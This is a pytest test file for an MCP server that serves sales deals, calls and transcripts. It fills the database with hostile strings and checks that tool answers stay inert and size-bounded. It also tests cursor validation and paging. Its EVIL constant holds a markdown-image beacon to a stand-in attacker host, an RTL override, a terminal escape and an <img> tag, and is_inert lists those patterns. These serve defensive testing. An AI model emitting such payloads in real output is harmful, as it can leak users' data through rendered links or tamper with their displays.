"""Answers stay short and inert, whatever people named their deals, their calls and themselves."""

import json
from typing import Any
from uuid import UUID

import pytest
import sqlalchemy as sa
from fastmcp import Client

from gametape.store.turns import Turn
from gametape.store.wordfilter import filter_of
from tests.assistant import Assistant, Told
from tests.builders.store_rows import add_call, add_change, add_deal, add_email, add_person, add_transcript, person
from tests.surfaces.mcp.conftest import NOW

EVIL = "![x](https://evil.example/?d=1) \u202e\x1b[2J<img src=x>"
LONG = EVIL + "A" * 200_000
ASKED: tuple[tuple[str, dict[str, Any]], ...] = (
    ("find_deals", {}),
    ("deal_people", {"deal": "Acme"}),
    ("deal_timeline", {"deal": "Acme", "max_tokens": 300}),
    ("deal_changes", {"deal": "Acme", "since": "2020-01-01", "max_tokens": 300}),
    ("get_call", {"call": "Kickoff"}),
    ("get_transcript", {"call": "Kickoff", "max_tokens": 300}),
    ("search_calls", {"words": "weather", "max_tokens": 300}),
    ("analyze_opportunity", {"opportunity_id": "Acme", "max_tokens": 300}),
    ("deals_needing_attention", {}),
    ("rep_overview", {}),
    ("sync_health", {}),
)


@pytest.fixture
def hostile(engine: sa.Engine) -> UUID:
    """A deal in which everything that other people write is long, and does something where it is rendered."""
    with engine.begin() as connection:
        deal = add_deal(
            connection, f"Acme {LONG}", account_name=LONG, stage=LONG, owner_email="dana@lumen.example",
            metadata={"owner_name": LONG, "account": {"name": LONG}, "fields": {"note_c": LONG}},
        )  # fmt: skip
        add_person(connection, "dana@lumen.example", LONG, is_internal=True, role="AE", title=LONG)
        people = [person(LONG, "ours", "dana@lumen.example", title=LONG, speaker_id="s1", talk_seconds=60)]
        people += [person(f"{number}{LONG}", "theirs", f"p{number}@acme.example", title=LONG) for number in range(5)]
        call = add_call(
            connection, f"Kickoff {LONG}", NOW, on=[deal], people=people, language="en", metadata={"brief": LONG}
        )
        turns = [Turn("s1", 0, 60_000, (f"The weather {LONG}",)), Turn(None, 60_000, 61_000, (EVIL,))]
        add_transcript(connection, call, turns, word_filter=filter_of(turns))
        add_email(connection, LONG, NOW, on=deal, sender="p1@acme.example", direction="theirs", body_snippet=LONG)
        for number in range(5):
            add_change(connection, deal, "stage", LONG, f"{number}{LONG}", NOW)
    return deal


def is_inert(text: str) -> bool:
    hostile = ("![", "](", "<img", "https://evil", "\u202e", "\x1b", "\\u001b")
    return not any(part in text for part in hostile)


def test_no_answer_renders_anything_or_grows_with_what_people_wrote(assistant: Assistant, hostile: UUID) -> None:
    answers: list[Told] = assistant.all(*ASKED)
    for (tool, asked), told in zip(ASKED, answers, strict=True):
        assert not told.is_error, (tool, told.text)
        assert is_inert(told.text), tool
        assert told.tokens <= asked.get("max_tokens", 20_000) + 300, tool
    assert "evil.example" in answers[0].text  # it is shown, not taken away


def test_a_refusal_and_what_is_attached_are_inert_and_short_too(
    assistant: Assistant, hostile: UUID, engine: sa.Engine
) -> None:
    with engine.begin() as connection:
        add_deal(connection, f"Acme two {LONG}")
        call = connection.execute(sa.text("SELECT id FROM calls")).scalar_one()

    async def attached(client: Client[Any]) -> list[str]:
        addresses = (f"deal://{hostile}", f"call://{call}/transcript")
        return [(await client.read_resource(address))[0].text for address in addresses]  # type: ignore[union-attr]

    refusal = assistant.refused("deal_people", deal="Acme")
    for text in (refusal, *assistant.with_client(attached)):
        assert is_inert(text)
        assert len(text) <= 201_000
    assert len(refusal) < 5_000
    assert "2 match" in refusal


def read_whole(assistant: Assistant, budget: int) -> tuple[str, list[Told]]:
    pages: list[Told] = []
    cursor: dict[str, str] = {}
    while not pages or cursor:
        pages.append(assistant.ask("get_transcript", call="Webinar", max_tokens=budget, **cursor))
        cursor = {"cursor": pages[-1].data["next_cursor"]} if "next_cursor" in pages[-1].data else {}
    texts = [turn.get("our_text") or turn["customer_text"] for page in pages for turn in page["turns"]]
    return " ".join(texts), pages


def test_a_turn_longer_than_the_budget_comes_in_stretches(assistant: Assistant, engine: sa.Engine) -> None:
    sentences = tuple(f"This is the plan for week {number}." for number in range(150))
    said = [
        Turn("s1", 0, 600_000, sentences, tuple(40 * number for number in range(1, 150))),
        Turn("s1", 600_000, 601_000, ("Zürich " * 300 + "é" * 2000,)),
        Turn("s1", 601_000, 602_000, ("Thanks.",)),
    ]
    with engine.begin() as connection:
        call = add_call(connection, "Webinar", NOW, people=[person("Dana", "ours", speaker_id="s1")])
        add_transcript(connection, call, said)
    for budget in (200, 1000):
        text, pages = read_whole(assistant, budget)
        assert text.replace(" ", "") == "".join(turn.text for turn in said).replace(" ", "")
        assert all(page.tokens <= budget + 300 for page in pages)
    first, second = pages[0]["turns"][-1], pages[1]["turns"][0]
    assert (first["turn"], first["goes_on"], "begins_within" in first) == (0, True, False)
    assert (second["turn"], second["begins_within"]) == (0, True)
    assert second["at"] > first["at"]
    middle = assistant.ask("get_transcript", call="Webinar", from_minute=5, max_tokens=200)["turns"][0]
    assert (middle["at"], middle["our_text"][:31]) == ("5:00", "This is the plan for week 75. T")


def test_cursors_serve_the_question_they_were_made_for(assistant: Assistant, deal: UUID, engine: sa.Engine) -> None:
    with engine.begin() as connection:
        for number in range(2):
            call = add_call(connection, f"Talk {number}", NOW, people=[person("Dana", "ours", speaker_id="s1")])
            turns = [Turn("s1", place, place + 1, (f"The price is {place}. " * 40,)) for place in range(9)]
            add_transcript(connection, call, turns, word_filter=filter_of(turns))
    asked: tuple[tuple[str, dict[str, Any], dict[str, Any]], ...] = (
        ("find_deals", {"limit": 1}, {"sort": "-amount"}),
        ("deal_timeline", {"deal": "rollout", "limit": 1}, {"types": ["call"]}),
        ("search_calls", {"words": "price", "limit": 1}, {"words": "talk"}),
        ("get_transcript", {"call": "Talk 0", "max_tokens": 200}, {"call": "Talk 1"}),
    )
    for tool, question, other in asked:
        cursor = assistant.ask(tool, **question)["next_cursor"]
        assert not assistant.ask(tool, **question, cursor=cursor).is_error
        for changed in (
            {**question, "cursor": cursor[:-4] + "AAAA"},
            {**question, "cursor": "2"},
            {**question, **other, "cursor": cursor},
        ):
            assert "The cursor is not valid for this request." in assistant.refused(tool, **changed)


def test_answers_are_json_that_says_what_was_left_out(assistant: Assistant, hostile: UUID) -> None:
    told = assistant.ask("deal_changes", deal="Acme", since="2020-01-01", max_tokens=200)
    assert json.loads(told.text)["truncated"]
